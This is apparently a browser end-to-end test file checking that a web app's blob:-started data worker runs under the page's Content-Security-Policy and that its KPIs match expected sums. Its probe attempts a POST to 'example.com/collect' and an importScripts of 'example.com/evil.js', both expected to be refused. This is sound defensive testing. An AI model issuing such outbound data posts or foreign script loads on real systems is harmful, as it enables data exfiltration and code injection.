// A policy for the worker (issue 21, item 4): the page's Content-Security-Policy is a
// <meta> tag, which reaches no worker loaded from a URL, so the data worker is started
// from a blob: URL (src/ui/browser.rs, `start_worker`) and inherits the page's policy.
// Inside the worker that holds a loaded file, a fetch to another origin, `new Function`,
// `eval` and an `importScripts` from another origin are all refused, and no request
// leaves the browser; a same-origin fetch from the worker is allowed and seen by the
// request recorder (so the recorder does watch the worker). The worker still loads a big
// generated file and its KPIs equal the sums computed here, in JS.
//
// The probes run in a `setTimeout` inside `worker.evaluate`: DevTools' own evaluation
// may compile strings whatever the policy says, a timer callback runs as the page's code.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { AppPage, assertClose, eventually, startSession } from './helpers.mjs';
import { writePostsCsv } from './bench/posts.mjs';

/** 200,000 generated posts: about 18 MB, parsed in the data worker. */
const ROWS = 200_000;
const FILE = 'worker-policy-posts.csv';
const BIG_TIMEOUT_MS = 120_000;

let session;
let dir;
let expected;
before(async () => {
  dir = mkdtempSync(path.join(os.tmpdir(), 'kpi-worker-policy-'));
  expected = writePostsCsv(path.join(dir, FILE), { rows: ROWS, seed: 21, idPrefix: 'W' }).overall;
  session = await startSession();
});
after(async () => {
  await session?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/**
 * What the worker may and may not do, probed from a timer callback inside it (`foreign`:
 * also try to reach another origin, only where the policy should refuse it).
 */
async function probe({ origin, foreign }) {
  const violations = [];
  self.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
  const attempt = (run) =>
    new Promise((resolve) => {
      setTimeout(async () => {
        try {
          await run();
          resolve('allowed');
        } catch (e) {
          resolve(`refused: ${e?.name ?? e}`);
        }
      }, 0);
    });
  const outcome = {
    location: self.location.href,
    foreignFetch: foreign
      ? await attempt(() => fetch('https://example.com/collect?from=worker', { method: 'POST', body: 'x' }))
      : 'not tried',
    newFunction: await attempt(() => new Function('return 1')()),
    eval: await attempt(() => (0, eval)('1 + 1')),
    foreignImport: foreign ? await attempt(() => importScripts('https://example.com/evil.js')) : 'not tried',
    ownFetch: await attempt(async () => {
      const response = await fetch(`${origin}/index.html?probe=worker`);
      if (!response.ok) throw new Error(`HTTP ${response.status}`);
    }),
  };
  await new Promise((resolve) => setTimeout(resolve, 200)); // violation events are queued
  return { ...outcome, violations };
}

test('the data worker runs under the page policy: foreign fetch, new Function, eval and foreign imports refused, nothing leaves the browser', async () => {
  const context = await session.browser.newContext({ viewport: { width: 1280, height: 900 } });
  context.setDefaultTimeout(10_000);
  const requests = [];
  context.on('request', (request) => requests.push(request.url()));
  const app = new AppPage(await context.newPage(), session.baseUrl);
  try {
    const origin = new URL(session.baseUrl).origin;
    await app.goto('/data');
    await app.clearWorkspace();
    await app.upload([path.join(dir, FILE)]);
    await app.page.locator(`[data-file-report="${FILE}"]`).waitFor({ timeout: BIG_TIMEOUT_MS });
    assert.equal((await app.rowCounts(FILE)).used, ROWS);

    // The worker that holds the data was started from a blob: URL.
    const workers = app.page.workers();
    assert.equal(workers.length, 1, workers.map((w) => w.url()).join(' '));
    const worker = workers[0];
    assert.match(worker.url(), /^blob:/);

    const outcome = await worker.evaluate(probe, { origin, foreign: true });
    assert.match(outcome.location, /^blob:/);
    assert.match(outcome.foreignFetch, /^refused/, 'a fetch to another origin is refused');
    assert.match(outcome.newFunction, /^refused: EvalError/, 'new Function is refused');
    assert.match(outcome.eval, /^refused: EvalError/, 'eval is refused');
    assert.match(outcome.foreignImport, /^refused/, 'importScripts from another origin is refused');
    assert.equal(outcome.ownFetch, 'allowed', 'the worker may fetch from its own origin');

    // The recorder sees the worker's requests (its same-origin probe) and nothing else left.
    await eventually(() => assert.ok(requests.some((url) => url.endsWith('/index.html?probe=worker')), requests.join(' ')));
    const network = requests.filter((url) => /^(https?|wss?):/.test(url));
    assert.deepEqual(network.filter((url) => new URL(url).origin !== origin), [], 'no request leaves the origin');
    // The worker's own glue and wasm came from the origin, by absolute URL.
    assert.ok(network.some((url) => new URL(url).pathname === '/worker_bg.wasm'), network.join(' '));

    // And it loaded the file right: ROAS = Σrevenue / Σcost, CTR = Σclicks / Σimpressions.
    await app.navigate('/');
    await app.waitForKpis();
    await eventually(async () => {
      assertClose(await app.kpiValue('roas'), expected.revenue / expected.cost, 'ROAS = Σrevenue / Σcost');
      assertClose(await app.kpiValue('ctr'), expected.clicks / expected.impressions, 'CTR = Σclicks / Σimpressions');
    }, 30_000);
    assert.deepEqual(app.panics(), []);
  } finally {
    await context.close();
  }
});

test('the page policy lets workers come from blob: and the origin only', async () => {
  const app = await session.open('/privacy');
  try {
    const policy = await app.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    const directives = Object.fromEntries(
      policy.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
    );
    assert.deepEqual(directives['worker-src'], ["'self'", 'blob:']);
    assert.ok(!policy.includes("'unsafe-eval'"), policy);
    // A worker from another origin is refused at once.
    const foreign = await app.page.evaluate(() => {
      try {
        new Worker('https://example.com/worker.js');
        return 'allowed';
      } catch (e) {
        return `refused: ${e.name}`;
      }
    });
    assert.match(foreign, /^refused/);
  } finally {
    await app.close();
  }
});

test('control: a worker loaded from its URL would not be under the page policy (why the data worker is a blob:)', async () => {
  const app = await session.open('/privacy');
  try {
    const origin = new URL(session.baseUrl).origin;
    // worker.js (the worker's wasm-bindgen glue) only defines functions when run alone.
    await app.page.evaluate(() => {
      window.__urlWorker = new Worker('/worker.js');
    });
    await eventually(() => assert.ok(app.page.workers().some((w) => w.url().endsWith('/worker.js'))));
    const worker = app.page.workers().find((w) => w.url().endsWith('/worker.js'));
    const outcome = await worker.evaluate(probe, { origin, foreign: false });
    // The test server sends no CSP header: the <meta> policy does not reach it.
    assert.equal(outcome.newFunction, 'allowed', 'the probe does see what a policy-less worker may do');
    assert.equal(outcome.eval, 'allowed');
  } finally {
    await app.close();
  }
});
